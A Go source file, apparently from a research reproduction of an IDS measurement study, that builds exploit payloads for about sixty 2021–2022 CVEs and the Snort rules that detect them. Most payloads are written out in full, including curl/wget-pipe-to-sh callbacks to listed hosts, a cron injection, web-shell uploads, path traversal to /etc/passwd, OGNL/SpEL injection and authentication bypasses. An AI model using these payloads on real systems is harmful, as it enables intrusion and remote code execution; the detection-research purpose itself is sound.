// Package scanner simulates the adversarial side of the measurement: for
// every studied CVE it crafts application-layer exploit payloads shaped like
// the real exploits (HTTP URI/header/cookie/body injection, SMTP, raw TCP
// protocol abuse), assembles them into campaigns whose timing matches the
// paper's Appendix E, and produces the matching dated Snort ruleset whose
// publication times reproduce the paper's F/D lifecycle events.
//
// The payloads and signatures are mutually calibrated: each CVE's payload
// carries that exploit's distinctive marker and each signature matches
// exactly its own CVE's traffic, so the IDS attribution downstream is exact
// — except where the paper itself observed cross-CVE phenomena (the
// Log4Shell obfuscation variants, the untargeted OGNL scanning of
// Appendix C), which are reproduced deliberately.
package scanner

import (
	"fmt"
	"math/rand"
	"strconv"
	"strings"
)

// Exploit describes how one CVE is exploited on the wire and how the IDS
// vendor's signature detects it.
type Exploit struct {
	// CVE is the identifier without the CVE- prefix.
	CVE string
	// Port is the service port the exploit nominally targets. Scanners
	// sometimes spray other ports; the paper's port-insensitive rule
	// rewriting exists exactly because signatures assume this port.
	Port uint16
	// SID is the detecting signature's ID (synthetic 9xxxxx range except
	// where the paper names real SIDs).
	SID int
	// Rule is the Snort rule text detecting this exploit.
	Rule string
	// Craft builds one exploit payload. Implementations draw incidental
	// variation (hosts, tokens) from rng but always include the marker the
	// rule matches.
	Craft func(rng *rand.Rand) []byte
}

// evilHosts provides incidental variation for callback hosts in payloads.
var evilHosts = []string{
	"185.220.101.34", "45.155.205.233", "194.31.98.124", "91.241.19.84",
	"losmi.example.net", "cdn-updates.example.org",
}

func pick(rng *rand.Rand, xs []string) string { return xs[rng.Intn(len(xs))] }

// httpGet renders a GET request with optional extra headers.
func httpGet(uri string, headers ...string) []byte {
	return httpReq("GET", uri, "", headers...)
}

// httpPost renders a POST request with a body and Content-Length.
func httpPost(uri, body string, headers ...string) []byte {
	return httpReq("POST", uri, body, headers...)
}

const (
	defaultUA = "User-Agent: Mozilla/5.0 (compatible; probe)\r\n"
	formType  = "Content-Type: application/x-www-form-urlencoded\r\n"
)

// httpReq renders one request into a single exact-size buffer. Header
// names here are ASCII, so the User-Agent test folds ASCII case only.
func httpReq(method, uri, body string, headers ...string) []byte {
	const uaPrefix = "user-agent:"
	n := len(method) + 1 + len(uri) + len(" HTTP/1.1\r\nHost: target\r\n") + len("\r\n") + len(body)
	hasUA := false
	for _, h := range headers {
		n += len(h) + len("\r\n")
		if len(h) >= len(uaPrefix) && strings.EqualFold(h[:len(uaPrefix)], uaPrefix) {
			hasUA = true
		}
	}
	if !hasUA {
		n += len(defaultUA)
	}
	var num [20]byte
	bodyLen := strconv.AppendInt(num[:0], int64(len(body)), 10)
	if body != "" {
		n += len("Content-Length: ") + len(bodyLen) + len("\r\n") + len(formType)
	}
	b := make([]byte, 0, n)
	b = append(b, method...)
	b = append(b, ' ')
	b = append(b, uri...)
	b = append(b, " HTTP/1.1\r\nHost: target\r\n"...)
	for _, h := range headers {
		b = append(b, h...)
		b = append(b, "\r\n"...)
	}
	if !hasUA {
		b = append(b, defaultUA...)
	}
	if body != "" {
		b = append(b, "Content-Length: "...)
		b = append(b, bodyLen...)
		b = append(b, "\r\n"...)
		b = append(b, formType...)
	}
	b = append(b, "\r\n"...)
	return append(b, body...)
}

// rule builds the standard study rule text for a CVE marker.
func ruleText(msg, cve string, sid int, port uint16, options string) string {
	portSpec := "any"
	if port != 0 {
		portSpec = fmt.Sprintf("%d", port)
	}
	return fmt.Sprintf(
		`alert tcp any any -> any %s (msg:"%s"; flow:to_server,established; %s reference:cve,%s; sid:%d; rev:1;)`,
		portSpec, msg, options, cve, sid)
}

// content renders a content option with optional sticky buffer.
func content(pattern, buffer string) string {
	opt := fmt.Sprintf("content:%q; ", pattern)
	if buffer != "" {
		opt += buffer + "; "
	}
	return opt
}

// Exploits returns the exploit definitions for all study CVEs except
// Log4Shell, whose 15 variant signatures are defined in log4shell.go. The
// markers follow the public exploitation technique for each CVE.
func Exploits() []Exploit {
	var out []Exploit
	add := func(cve string, port uint16, sid int, msg string, options string, craft func(rng *rand.Rand) []byte) {
		out = append(out, Exploit{
			CVE:   cve,
			Port:  port,
			SID:   sid,
			Rule:  ruleText(msg, cve, sid, port, options),
			Craft: craft,
		})
	}

	add("2021-22893", 443, 900001, "SERVER-WEBAPP Pulse Connect Secure vulnerable URI access attempt",
		content("/dana-na/../dana/meeting", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/dana-na/../dana/meeting/testfile.cgi?cmd=" + pick(rng, []string{"id", "uname"}))
		})
	add("2021-22204", 443, 900002, "SERVER-WEBAPP ExifTool DjVu metadata command injection attempt",
		content("(metadata (copyright \"\\", "http_client_body"),
		func(rng *rand.Rand) []byte {
			body := `(metadata (copyright "\` + `" . qx{curl http://` + pick(rng, evilHosts) + `/x.sh|sh} . \` + `"b"))`
			return httpPost("/uploads/user/avatar", body, "Content-Type: image/djvu")
		})
	add("2021-29441", 8848, 900003, "SERVER-WEBAPP Alibaba Nacos authentication bypass attempt",
		content("/nacos/v1/auth/users", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/nacos/v1/auth/users?pageNo=1&pageSize=99", "User-Agent: Nacos-Server")
		})
	add("2021-20090", 80, 900004, "SERVER-WEBAPP Arcadyan routers path traversal attempt",
		content("/images/..%2fapply_abstract.cgi", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/images/..%2fapply_abstract.cgi", "action=start_ping&submit_button=ping.html&ping_ipaddr=127.0.0.1")
		})
	add("2021-20091", 80, 900005, "SERVER-WEBAPP Buffalo WSR router configuration injection attempt",
		content("ARC_SYS_TelnetdEnable=1", "http_client_body"),
		func(rng *rand.Rand) []byte {
			return httpPost("/cgi-bin/apply_abstract.cgi", "ARC_SYS_TelnetdEnable=1%0AARC_SYS_SessionTimeout=9999")
		})
	add("2021-1497", 443, 900006, "SERVER-WEBAPP Cisco HyperFlex HX Installer command injection attempt",
		content("/auth/change", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/auth/change", "username=admin&password=`curl http://"+pick(rng, evilHosts)+"/p`")
		})
	add("2021-1498", 443, 900007, "SERVER-WEBAPP Cisco HyperFlex HX Data Platform command injection attempt",
		content("/storfs-asup", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/storfs-asup", "action=&token=`wget http://"+pick(rng, evilHosts)+"/m`&mode=")
		})
	add("2021-31755", 80, 900008, "SERVER-WEBAPP Tenda AC11 router stack buffer overflow attempt",
		content("/goform/setmac", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/goform/setmac", "macaddr="+strings.Repeat("A", 200)+";telnetd;")
		})
	add("2021-31166", 80, 900009, "OS-WINDOWS Microsoft HTTP protocol stack remote code execution attempt",
		content("Accept-Encoding: doar-e", "http_header"),
		func(rng *rand.Rand) []byte {
			return httpGet("/", "Accept-Encoding: doar-e, ftw, imo,,")
		})
	add("2021-31207", 443, 900010, "SERVER-WEBAPP Microsoft Exchange autodiscover SSRF attempt",
		content("/autodiscover.json?", "http_uri")+content("/mapi/nspi", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/autodiscover/autodiscover.json?@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com")
		})
	add("2021-32305", 80, 900011, "SERVER-WEBAPP WebSVN search command injection attempt",
		content("/websvn/search.php", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet(`/websvn/search.php?search=%22;curl%20http://` + pick(rng, evilHosts) + `/w.sh%7Csh;%22`)
		})
	add("2021-21985", 443, 900012, "SERVER-WEBAPP VMware vSphere Client remote code execution attempt",
		content("/ui/h5-vsan/rest/proxy/service", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/ui/h5-vsan/rest/proxy/service/com.vmware.vsan.client.services.capability/getClusterCapabilityData",
				`{"methodInput":[{"type":"ClusterComputeResource","value":null}]}`, "Content-Type: application/json")
		})
	add("2021-35464", 8080, 900013, "SERVER-WEBAPP ForgeRock OpenAM remote code execution attempt",
		content("jato.pageSession=", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/openam/oauth2/..;/ccversion/Version?jato.pageSession=" + strings.Repeat("rO0AB", 4) + "serializedgadget")
		})
	add("2021-21799", 80, 900014, "TRUFFLEHUNTER TALOS-2021-1270 attack attempt",
		content("/php/device_graph_page.php", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/php/device_graph_page.php?hostname=<script>document.location='http://" + pick(rng, evilHosts) + "'</script>")
		})
	add("2021-21801", 80, 900015, "TRUFFLEHUNTER TALOS-2021-1272 attack attempt",
		content("/php/device_status.php", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/php/device_status.php?host_id=<script>alert(1)</script>")
		})
	add("2021-21816", 80, 900016, "TRUFFLEHUNTER TALOS-2021-1281 attack attempt",
		content("/config/log_to_ramfile.xml", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/config/log_to_ramfile.xml")
		})
	add("2021-26085", 8090, 900017, "SERVER-WEBAPP Atlassian Confluence information disclosure attempt",
		content("/WEB-INF/web.xml", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/s/anything/_/;/WEB-INF/web.xml")
		})
	add("2021-35395", 80, 900018, "SERVER-WEBAPP Realtek Jungle SDK command injection attempt",
		content("/goform/formWsc", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/goform/formWsc", "submit-url=%2Fwlwps.asp&peerPin=12345678;wget+http://"+pick(rng, evilHosts)+"/r;sh+r;")
		})
	add("2021-26084", 8090, 900019, "SERVER-WEBAPP Atlassian Confluence OGNL injection remote code execution attempt",
		content("/pages/createpage-entervariables.action", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/pages/createpage-entervariables.action?SpaceKey=x",
				`queryString=aaa'%2b%7bClass.forName(%27javax.script.ScriptEngineManager%27)%7d%2b'`)
		})
	add("2021-40539", 9251, 900020, "SERVER-WEBAPP Zoho ManageEngine ADSelfService Plus authentication bypass attempt",
		content("/RestAPI/LogonCustomization", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/./RestAPI/LogonCustomization", "methodToCall=previewMobLogo&Save=yes&form=smartcard&operation=Add&CERTIFICATE_PATH=../../webapps/adssp/help/admin-guide/x.jsp")
		})
	add("2021-33045", 37777, 900021, "SERVER-OTHER Dahua Console Loopback authentication bypass attempt",
		content(`"loginType" : "Loopback"`, ""),
		func(rng *rand.Rand) []byte {
			return []byte(`{ "method" : "global.login", "params" : { "userName" : "admin", "password" : "", "clientType" : "Local", "loginType" : "Loopback", "authorityType" : "Default" }, "id" : 1 }`)
		})
	add("2021-33044", 37777, 900022, "SERVER-OTHER Dahua Console NetKeyboard authentication bypass attempt",
		content(`"clientType" : "NetKeyboard"`, ""),
		func(rng *rand.Rand) []byte {
			return []byte(`{ "method" : "global.login", "params" : { "userName" : "admin", "password" : "", "clientType" : "NetKeyboard", "loginType" : "Direct", "authorityType" : "Default" }, "id" : 1 }`)
		})
	add("2021-40870", 443, 900023, "SERVER-WEBAPP Aviatrix Controller PHP file injection attempt",
		content("set_metric_gw_selections", "http_client_body"),
		func(rng *rand.Rand) []byte {
			return httpPost("/v1/backend1", "CID=x&action=set_metric_gw_selections&account_name=../../var/www/php/uploads/evil&gw_selections=<?php system($_GET['c']); ?>")
		})
	add("2021-38647", 5986, 900024, "OS-OTHER Microsoft OMI remote code execution attempt (OMIGOD)",
		content("ExecuteShellCommand", "http_client_body"),
		func(rng *rand.Rand) []byte {
			body := `<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body><p:ExecuteShellCommand_INPUT xmlns:p="http://schemas.microsoft.com/wbem/wscim/1/cim-schema/2/SCX_OperatingSystem"><p:command>id</p:command><p:timeout>0</p:timeout></p:ExecuteShellCommand_INPUT></s:Body></s:Envelope>`
			return httpPost("/wsman", body, "Content-Type: application/soap+xml;charset=UTF-8")
		})
	add("2021-40438", 443, 900025, "SERVER-APACHE Apache HTTP server mod_proxy SSRF attempt",
		content("/?unix:", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/?unix:" + strings.Repeat("A", 120) + "|http://" + pick(rng, evilHosts) + "/")
		})
	add("2021-22005", 443, 900026, "SERVER-WEBAPP VMware vCenter Server file upload attempt",
		content("/analytics/telemetry/ph/api/hyper/send", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/analytics/telemetry/ph/api/hyper/send?_c=test&_i=/../../../../var/spool/cron/root", "* * * * * curl http://"+pick(rng, evilHosts)+"/c|sh\n")
		})
	add("2021-36260", 80, 900027, "SERVER-WEBAPP Hikvision webLanguage command injection attempt",
		content("/SDK/webLanguage", "http_uri"),
		func(rng *rand.Rand) []byte {
			body := `<?xml version="1.0" encoding="UTF-8"?><language>$(wget http://` + pick(rng, evilHosts) + `/hik -O /tmp/h; sh /tmp/h)</language>`
			return httpReq("PUT", "/SDK/webLanguage", body, "Content-Type: application/xml")
		})
	add("2021-39226", 3000, 900028, "SERVER-WEBAPP Grafana snapshot authentication bypass attempt",
		content("/api/snapshots/", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/api/snapshots/:key")
		})
	add("2021-41773", 443, 900029, "SERVER-APACHE Apache HTTP Server directory traversal attempt",
		content(".%2e/.%2e/", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd")
		})
	add("2021-27561", 9989, 900030, "SERVER-WEBAPP Yealink Device Management SSRF attempt",
		content("/premise/front/getPingData", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/premise/front/getPingData?url=http://" + pick(rng, evilHosts) + "/$(id)")
		})
	add("2021-20837", 443, 900031, "SERVER-WEBAPP Movable Type CMS command injection attempt",
		content("/mt/mt-xmlrpc.cgi", "http_uri"),
		func(rng *rand.Rand) []byte {
			body := `<?xml version="1.0"?><methodCall><methodName>mt.handler_to_coderef</methodName><params><param><value><base64>YGN1cmwgaHR0cDovL2V2aWwvcGF5bG9hZHxzaGA=</base64></value></param></params></methodCall>`
			return httpPost("/cgi-bin/mt/mt-xmlrpc.cgi", body, "Content-Type: text/xml")
		})
	add("2021-40117", 443, 900032, "SERVER-OTHER Cisco ASA and FTD denial of service attempt",
		content("/+CSCOE+/saml/sp/acs", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/+CSCOE+/saml/sp/acs?tgname=a", "SAMLResponse="+strings.Repeat("%41", 64))
		})
	add("2021-41653", 80, 900033, "SERVER-WEBAPP TP-Link TL-WR840N command injection attempt",
		content("/cgi-bin/luci/;stok=", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/cgi-bin/luci/;stok=/locale?form=country", "operation=write&country=$(rm -rf /tmp/x; wget http://"+pick(rng, evilHosts)+"/t -O- | sh)")
		})
	add("2021-43798", 3000, 900034, "SERVER-WEBAPP Grafana getPluginAssets path traversal attempt",
		content("/public/plugins/", "http_uri"),
		func(rng *rand.Rand) []byte {
			plugin := pick(rng, []string{"alertlist", "annolist", "grafana-clock-panel", "mysql"})
			return httpGet("/public/plugins/" + plugin + "/../../../../../../../../etc/passwd")
		})
	add("2021-44515", 8020, 900035, "SERVER-WEBAPP ManageEngine Desktop Central authentication bypass attempt",
		content("/cewolf/", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/cewolf/?img=%2F..%2F..%2F..%2F..%2Fusers%2Fx", strings.Repeat("PK\x03\x04evilagent", 3))
		})
	add("2021-20038", 443, 900036, "SERVER-WEBAPP SonicWall SMA 100 buffer overflow attempt",
		content("/__api__/v1/logon", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/__api__/v1/logon/" + strings.Repeat("A", 600))
		})
	add("2021-45232", 9000, 900037, "SERVER-WEBAPP Apache APISIX Dashboard authentication bypass attempt",
		content("/apisix/admin/migrate/export", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/apisix/admin/migrate/export")
		})
	add("2022-21796", 4900, 900038, "TRUFFLEHUNTER TALOS-2022-1451 attack attempt",
		content("MOXA|00 00|", ""),
		func(rng *rand.Rand) []byte {
			return append([]byte("MOXA\x00\x00"), []byte(strings.Repeat("\x41", 128))...)
		})
	add("2022-21199", 80, 900039, "TRUFFLEHUNTER TALOS-2022-1446 attack attempt",
		content("/cgi-bin/api.cgi?cmd=Login", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/cgi-bin/api.cgi?cmd=Login&token=123456789", `[{"cmd":"Login","param":{"User":{"userName":"admin","password":"guessed"}}}]`)
		})
	add("2021-45382", 8080, 900040, "SERVER-WEBAPP D-Link router command injection attempt",
		content("/ddns_check.ccp", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/ddns_check.ccp", "ccp_act=doCheck&ddnsHostName=evil;wget+http://"+pick(rng, evilHosts)+"/d;&ddnsUsername=x")
		})
	add("2022-0543", 6379, 900041, "SERVER-OTHER Debian Redis Lua sandbox escape attempt",
		content("package.loadlib", ""),
		func(rng *rand.Rand) []byte {
			script := `local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r");`
			return []byte(fmt.Sprintf("*3\r\n$4\r\nEVAL\r\n$%d\r\n%s\r\n$1\r\n0\r\n", len(script), script))
		})
	add("2022-22947", 8080, 900042, "SERVER-WEBAPP Spring Cloud Gateway SpEL injection attempt",
		content("/actuator/gateway/routes", "http_uri"),
		func(rng *rand.Rand) []byte {
			body := `{"id":"x","filters":[{"name":"AddResponseHeader","args":{"name":"Result","value":"#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{\"id\"}).getInputStream()))}"}}],"uri":"http://example.com"}`
			return httpPost("/actuator/gateway/routes/exploit", body, "Content-Type: application/json")
		})
	add("2022-22963", 8080, 900043, "SERVER-WEBAPP Spring Cloud Function SpEL injection attempt",
		content("spring.cloud.function.routing-expression", "http_header"),
		func(rng *rand.Rand) []byte {
			return httpPost("/functionRouter", "exploit",
				`spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec("wget http://`+pick(rng, evilHosts)+`/s")`)
		})
	add("2022-22965", 8080, 900044, "SERVER-WEBAPP Java ClassLoader access attempt (Spring4Shell)",
		content("class.module.classLoader", "http_client_body"),
		func(rng *rand.Rand) []byte {
			return httpPost("/", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp")
		})
	add("2022-28219", 8081, 900045, "SERVER-WEBAPP Zoho ManageEngine ADAudit Plus XXE attempt",
		content("/api/agent/tabs/agentData", "http_uri"),
		func(rng *rand.Rand) []byte {
			body := `[{"DomainName":"x","EventCode":4688,"data":"<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY % remote SYSTEM \"http://` + pick(rng, evilHosts) + `/x.dtd\">%remote;]><x/>"}]`
			return httpPost("/api/agent/tabs/agentData", body, "Content-Type: application/json")
		})
	add("2022-22954", 443, 900046, "SERVER-WEBAPP VMware Workspace ONE Access SSTI attempt",
		content("freemarker.template.utility.Execute", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet(`/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7B%22freemarker.template.utility.Execute%22%3Fnew%28%29%28%22id%22%29%7D`)
		})
	add("2022-29464", 9443, 900047, "SERVER-WEBAPP WSO2 arbitrary file upload attempt",
		content("/fileupload/toolsAny", "http_uri"),
		func(rng *rand.Rand) []byte {
			body := "------x\r\nContent-Disposition: form-data; name=\"../../../../repository/deployment/server/webapps/authenticationendpoint/shell.jsp\"\r\n\r\n<% out.print(\"pwned\"); %>\r\n------x--\r\n"
			return httpPost("/fileupload/toolsAny", body, "Content-Type: multipart/form-data; boundary=----x")
		})
	add("2022-0540", 8080, 900048, "SERVER-WEBAPP Atlassian Jira Seraph authentication bypass attempt",
		content("InsightPluginShowGeneralConfiguration.jspa", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/secure/InsightPluginShowGeneralConfiguration.jspa;")
		})
	add("2022-27925", 443, 900049, "SERVER-WEBAPP Zimbra mboximport directory traversal attempt",
		content("/service/extension/backup/mboximport", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/service/extension/backup/mboximport?account-name=admin&ow=2&no_switch=1&append=1", "PK\x03\x04../../jetty/webapps/zimbra/public/sh.jsp")
		})
	add("2022-29499", 443, 900050, "SERVER-WEBAPP Mitel MiVoice Connect command injection attempt",
		content("/scripts/vtest.php", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/scripts/vtest.php?get_url=http%3A%2F%2F127.0.0.1%24%28curl%20http%3A%2F%2F" + pick(rng, evilHosts) + "%2Fm%7Csh%29")
		})
	add("2022-1388", 443, 900051, "SERVER-WEBAPP F5 iControl REST authentication bypass attempt",
		content("/mgmt/tm/util/bash", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/mgmt/tm/util/bash", `{"command":"run","utilCmdArgs":"-c 'id'"}`,
				"Connection: keep-alive, X-F5-Auth-Token",
				"X-F5-Auth-Token: a",
				"Authorization: Basic YWRtaW46")
		})
	add("2022-28818", 443, 900052, "SERVER-WEBAPP Adobe ColdFusion cross-site scripting attempt",
		content("/cf_scripts/scripts/ajax/ckeditor", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet(`/cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/iframedialog.cfm?hash=x&Command=%22%3E%3Cscript%3Ealert(document.domain)%3C/script%3E`)
		})
	add("2022-30525", 443, 900053, "SERVER-WEBAPP Zyxel Firewall command injection attempt",
		content("/ztp/cgi-bin/handler", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/ztp/cgi-bin/handler", `{"command":"setWanPortSt","proto":"dhcp","port":"4","vlan_tagged":"1","vlanid":"5","mtu":"; bash -c 'curl http://`+pick(rng, evilHosts)+`/z|sh' ;","data":"hi"}`, "Content-Type: application/json")
		})
	add("2022-29583", 443, 900054, "SERVER-WEBAPP NETGEAR ProSafe SSL VPN SQL injection attempt",
		content("/scgi-bin/platform.cgi", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/scgi-bin/platform.cgi", "thispage=index.htm&USERDBUsers.UserName=admin%27+OR+%271%27%3D%271&USERDBUsers.Password=x&button.login.USERDBUsers=Login")
		})
	add("2022-28938", 8080, 900055, "SERVER-WEBAPP OGNL expression injection attempt (untargeted)",
		content("/%24%7Bnew%20javax.script", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet(`/%24%7Bnew%20javax.script.ScriptEngineManager%28%29.getEngineByName%28%22js%22%29.eval%28%22java.lang.Runtime.getRuntime%28%29.exec%28%27id%27%29%22%29%7D/`)
		})
	add("2022-26134", 8090, 900056, "SERVER-WEBAPP Atlassian Confluence OGNL expression injection attempt",
		content("/%24%7B%28%23a%3D", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet(`/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/`)
		})
	add("2022-33891", 8080, 900057, "SERVER-WEBAPP Apache Spark command injection attempt",
		content("?doAs=`", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/?doAs=`curl%20http://" + pick(rng, evilHosts) + "/sp|sh`")
		})
	add("2022-26138", 8090, 900058, "SERVER-WEBAPP Atlassian Confluence hardcoded credentials use attempt",
		content("os_username=disabledsystemuser", "http_client_body"),
		func(rng *rand.Rand) []byte {
			return httpPost("/dologin.action", "os_username=disabledsystemuser&os_password=disabled1system1user6708&login=Log+in&os_destination=%2F")
		})
	add("2022-35914", 443, 900059, "SERVER-WEBAPP GLPI htmLawed remote code execution attempt",
		content("/vendor/htmlawed/htmlawed/htmLawedTest.php", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/vendor/htmlawed/htmlawed/htmLawedTest.php", "sid=x&hhook=exec&text=id&hexec=Test", "Cookie: sid=x")
		})
	add("2022-41040", 443, 900060, "SERVER-WEBAPP Microsoft Exchange Server SSRF attempt (ProxyNotShell)",
		content("/powershell", "http_uri")+content("autodiscover.json", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/autodiscover/autodiscover.json?@evil.com/powershell/?X-Rps-CAT=x&Email=autodiscover/autodiscover.json%3F@evil.com")
		})
	add("2022-40684", 443, 900061, "SERVER-WEBAPP Fortinet FortiOS authentication bypass attempt",
		content("User-Agent: Report Runner", "http_header"),
		func(rng *rand.Rand) []byte {
			return httpReq("PUT", "/api/v2/cmdb/system/admin/admin", `{"ssh-public-key1":"\"ssh-rsa AAAAB3Nz attacker\""}`,
				"User-Agent: Report Runner", "Forwarded: for=\"[127.0.0.1]:8000\";by=\"[127.0.0.1]:9000\";")
		})
	add("2022-44877", 2031, 900062, "SERVER-WEBAPP Control Web Panel 7 command injection attempt",
		content("/login/index.php?login=$(", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/login/index.php?login=$(curl%20http://"+pick(rng, evilHosts)+"/cwp|sh)", "username=root&password=x&commit=Login")
		})
	return out
}
